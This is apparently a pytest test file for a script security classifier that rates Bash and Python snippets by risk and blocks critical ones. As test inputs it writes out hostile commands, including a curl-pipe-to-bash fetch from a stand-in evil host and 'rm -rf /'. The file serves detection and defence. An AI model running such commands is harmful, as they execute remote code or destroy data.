import pytest

from ebi.models.components import NodeInfo, SecurityRelevance
from ebi.models.script import Language
from ebi.parser.classifier import SecurityClassifier


@pytest.fixture
def classifier():
    return SecurityClassifier()


def _node(relevance, line=1, node_type="node"):
    return NodeInfo(node_type, line, line, relevance)


def test_critical_bash_classification(classifier):
    assert (
        classifier.classify_node_security("eval_statement", "eval $USER_INPUT", Language.BASH)
        is SecurityRelevance.CRITICAL
    )
    assert (
        classifier.classify_node_security(
            "command", "curl http://evil.example.com | bash", Language.BASH
        )
        is SecurityRelevance.CRITICAL
    )


def test_critical_python_classification(classifier):
    assert (
        classifier.classify_node_security("exec_statement", "exec(user_input)", Language.PYTHON)
        is SecurityRelevance.CRITICAL
    )
    assert (
        classifier.classify_node_security("system_call", "os.system('rm -rf /')", Language.PYTHON)
        is SecurityRelevance.CRITICAL
    )


@pytest.mark.parametrize(
    "node_type, content, expected",
    [
        ("command", "rm -rf /tmp", SecurityRelevance.CRITICAL),
        ("command_substitution", "x=$(wget file)", SecurityRelevance.CRITICAL),
        ("command", "sudo apt install vim", SecurityRelevance.HIGH),
        ("command", "chmod +x run.sh", SecurityRelevance.HIGH),
        ("command", "wget http://example.com/file", SecurityRelevance.HIGH),
        ("process_substitution", "diff <(ls a) <(ls b)", SecurityRelevance.HIGH),
        ("command", "source http://example.com/env", SecurityRelevance.HIGH),
        ("command", "export FOO=1", SecurityRelevance.MEDIUM),
        ("command", "chmod 644 file", SecurityRelevance.MEDIUM),
        ("command", "source ./env.sh", SecurityRelevance.MEDIUM),
        ("variable_assignment", "A=$B", SecurityRelevance.MEDIUM),
        ("command", "echo hello", SecurityRelevance.LOW),
    ],
)
def test_bash_levels(classifier, node_type, content, expected):
    assert classifier.classify_node_security(node_type, content, Language.BASH) is expected


@pytest.mark.parametrize(
    "node_type, content, expected",
    [
        ("call", "subprocess.run(cmd, shell=True)", SecurityRelevance.CRITICAL),
        ("call", "pickle.loads(data)", SecurityRelevance.CRITICAL),
        ("call", "subprocess.run(cmd)", SecurityRelevance.HIGH),
        ("call", "open('out.txt', 'w')", SecurityRelevance.HIGH),
        ("call", "compile(src, 'f', 'exec')", SecurityRelevance.HIGH),
        ("call", "open('in.txt', 'r')", SecurityRelevance.MEDIUM),
        ("call", "home = os.environ['HOME']", SecurityRelevance.MEDIUM),
        ("import_statement", "import sys", SecurityRelevance.MEDIUM),
        ("call", "print('hi')", SecurityRelevance.LOW),
    ],
)
def test_python_levels(classifier, node_type, content, expected):
    assert classifier.classify_node_security(node_type, content, Language.PYTHON) is expected


def test_unknown_language_is_medium(classifier):
    assert (
        classifier.classify_node_security("command", "echo hi", Language.UNKNOWN)
        is SecurityRelevance.MEDIUM
    )


def test_overall_risk_calculation(classifier):
    nodes = [
        NodeInfo("eval", 1, 1, SecurityRelevance.CRITICAL),
        NodeInfo("file_op", 2, 2, SecurityRelevance.LOW),
    ]
    assert classifier.classify_script_overall_risk(nodes) is SecurityRelevance.CRITICAL


@pytest.mark.parametrize(
    "relevances, expected",
    [
        ([], SecurityRelevance.LOW),
        ([SecurityRelevance.LOW] * 3, SecurityRelevance.LOW),
        ([SecurityRelevance.HIGH], SecurityRelevance.HIGH),
        ([SecurityRelevance.HIGH] * 5, SecurityRelevance.HIGH),
        ([SecurityRelevance.HIGH] * 6, SecurityRelevance.CRITICAL),
        ([SecurityRelevance.MEDIUM], SecurityRelevance.MEDIUM),
        ([SecurityRelevance.MEDIUM] * 7, SecurityRelevance.MEDIUM),
        ([SecurityRelevance.MEDIUM] * 8, SecurityRelevance.HIGH),
    ],
)
def test_overall_risk_thresholds(classifier, relevances, expected):
    nodes = [_node(r, i) for i, r in enumerate(relevances, 1)]
    assert classifier.classify_script_overall_risk(nodes) is expected


def test_risk_mitigation_suggestions(classifier):
    nodes = [NodeInfo("eval_statement", 1, 1, SecurityRelevance.CRITICAL)]
    assert classifier.risk_mitigation_suggestions(nodes) == []


def test_execution_blocking(classifier):
    assert classifier.should_block_execution(SecurityRelevance.CRITICAL) is True
    assert classifier.should_block_execution(SecurityRelevance.HIGH) is False
    assert classifier.should_block_execution(SecurityRelevance.MEDIUM) is False
    assert classifier.should_block_execution(SecurityRelevance.LOW) is False


def test_risk_explanation(classifier):
    assert classifier.risk_explanation(SecurityRelevance.LOW) == (
        "Contains only standard operations with minimal security impact"
    )
    assert classifier.risk_explanation(SecurityRelevance.CRITICAL).startswith(
        "Contains operations that could cause immediate system damage, "
    )
    explanations = {classifier.risk_explanation(r) for r in SecurityRelevance}
    assert len(explanations) == 4